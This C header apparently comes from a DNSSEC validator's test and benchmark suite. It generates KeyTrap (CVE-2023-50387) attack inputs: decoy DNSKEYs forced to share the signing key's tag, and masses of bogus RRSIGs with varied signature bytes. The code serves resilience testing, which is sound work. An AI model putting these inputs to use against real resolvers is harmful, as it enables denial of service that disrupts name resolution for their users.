/*
 * KeyTrap inputs (CVE-2023-50387) built from a zone signed by ldns-signzone: decoy P-256
 * DNSKEYs that share the ZSK's key tag (real points; the tag is steered with the DNSKEY flags'
 * unassigned bits, which validators ignore) are put into the zone before it is signed, so the
 * DNSKEY RRset stays validly signed; answers then get masses of bogus RRSIGs under the ZSK's
 * tag. Shared by tests/unit/test_verify_keytrap.c and bench/bench_keytrap.c.
 */
#ifndef DNSSWEEP_TEST_KEYTRAP_GEN_H
#define DNSSWEEP_TEST_KEYTRAP_GEN_H

#include "tests/unit/test_verify_zone_util.h"
#include "verify/verify.h"

#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <stdio.h>

/* Free flag bits: all but ZONE (0x0100), REVOKE (0x0080) and SEP (0x0001). */
#define KT_FREE_FLAGS 0xFE7Eu

static inline uint16_t kt_tag(const uint8_t *rdata, size_t len)
{
    uint32_t ac = 0;
    for (size_t i = 0; i < len; i++)
        ac += (i & 1) ? rdata[i] : (uint32_t)rdata[i] << 8;
    ac += (ac >> 16) & 0xFFFF;
    return (uint16_t)(ac & 0xFFFF);
}

/* Appends n zone-file lines "<owner> 3600 IN DNSKEY <flags> 3 13 <b64>" with key tag `tag`. */
static inline int kt_decoys(FILE *out, const char *owner, uint16_t tag, size_t n)
{
    size_t made = 0;
    while (made < n) {
        EVP_PKEY *k = EVP_PKEY_Q_keygen(NULL, NULL, "EC", "P-256");
        uint8_t pub[65], rdata[4 + 64];
        size_t plen = 0;
        if (!k ||
            EVP_PKEY_get_octet_string_param(k, OSSL_PKEY_PARAM_PUB_KEY, pub, sizeof pub, &plen) !=
                1 ||
            plen != 65)
            return -1;
        EVP_PKEY_free(k);
        rdata[2] = 3;
        rdata[3] = 13;
        memcpy(rdata + 4, pub + 1, 64);
        /* Every subset of the free bits: about one key in eight reaches the tag. */
        for (uint32_t extra = KT_FREE_FLAGS;; extra = (extra - 1) & KT_FREE_FLAGS) {
            uint16_t flags = (uint16_t)(0x0100u | extra);
            rdata[0] = (uint8_t)(flags >> 8);
            rdata[1] = (uint8_t)flags;
            if (kt_tag(rdata, sizeof rdata) == tag) {
                char b64[128];
                EVP_EncodeBlock((unsigned char *)b64, rdata + 4, 64);
                fprintf(out, "%s 3600 IN DNSKEY %u 3 13 %s\n", owner, flags, b64);
                made++;
                break;
            }
            if (extra == 0)
                break;
        }
    }
    return 0;
}

/* Re-signs z (from tz_sign, keys kept) with n_decoys decoys of the ZSK's tag in its zone. */
static inline int kt_resign_with_decoys(struct test_zone *z, const char *zone_text, size_t n)
{
    char path[256], cmd[1024];
    snprintf(path, sizeof path, "%s/zone", z->dir);
    FILE *f = fopen(path, "w");
    if (!f)
        return -1;
    fputs(zone_text, f);
    /* With DNSKEYs in the zone file, ldns-signzone adds no key of its own: list both. */
    ldns_rr_print(f, z->ksk_key);
    ldns_rr_print(f, z->zsk_key);
    int rc = kt_decoys(f, "example.com.", verify_key_tag(z->zsk_key), n);
    fclose(f);
    if (rc < 0)
        return -1;
    snprintf(cmd, sizeof cmd, "cd %s && ldns-signzone -i %s -e %s -f zone.signed zone %s %s 2>&1",
             z->dir, TZ_INCEPTION, TZ_EXPIRATION, z->ksk, z->zsk);
    if (tz_run(cmd, NULL, 0) < 0)
        return -1;
    ldns_zone_deep_free(z->zone);
    z->zone = NULL;
    snprintf(path, sizeof path, "%s/zone.signed", z->dir);
    f = fopen(path, "r");
    if (!f || ldns_zone_new_frm_fp(&z->zone, f, NULL, 3600, LDNS_RR_CLASS_IN) != LDNS_STATUS_OK)
        return -1;
    fclose(f);
    return 0;
}

/* Puts n bogus copies of the RRSIG over `covered` in a section, before the genuine one (each
 * with other signature bytes, as an attacker would, so no memo or de-duplication helps). */
static inline void kt_bogus_sigs(ldns_pkt *p, ldns_pkt_section sec, uint16_t covered, size_t n)
{
    ldns_rr_list *l = sec == LDNS_SECTION_ANSWER ? ldns_pkt_answer(p) : ldns_pkt_authority(p);
    ldns_rr *genuine = NULL;
    for (size_t i = 0; l && i < ldns_rr_list_rr_count(l) && !genuine; i++) {
        ldns_rr *rr = ldns_rr_list_rr(l, i);
        if (ldns_rr_get_type(rr) == LDNS_RR_TYPE_RRSIG &&
            ldns_rdf2native_int16(ldns_rr_rdf(rr, 0)) == covered)
            genuine = rr;
    }
    if (!genuine)
        return;
    ldns_rr_list *fresh = ldns_rr_list_new();
    for (size_t i = 0; i < n; i++) {
        ldns_rr *b = ldns_rr_clone(genuine);
        uint8_t *sig = ldns_rdf_data(ldns_rr_rdf(b, 8));
        sig[0] ^= (uint8_t)(i + 1);
        sig[1] ^= (uint8_t)((i + 1) >> 8);
        sig[5] ^= 0x5a;
        ldns_rr_list_push_rr(fresh, b);
    }
    /* bogus first, then everything that was there */
    for (size_t i = 0; i < ldns_rr_list_rr_count(l); i++)
        ldns_rr_list_push_rr(fresh, ldns_rr_list_rr(l, i));
    ldns_rr_list_set_rr_count(l, 0);
    for (size_t i = 0; i < ldns_rr_list_rr_count(fresh); i++)
        ldns_rr_list_push_rr(l, ldns_rr_list_rr(fresh, i));
    ldns_rr_list_free(fresh);
    if (sec == LDNS_SECTION_ANSWER)
        ldns_pkt_set_ancount(p, (uint16_t)ldns_rr_list_rr_count(l));
    else
        ldns_pkt_set_nscount(p, (uint16_t)ldns_rr_list_rr_count(l));
}

#endif
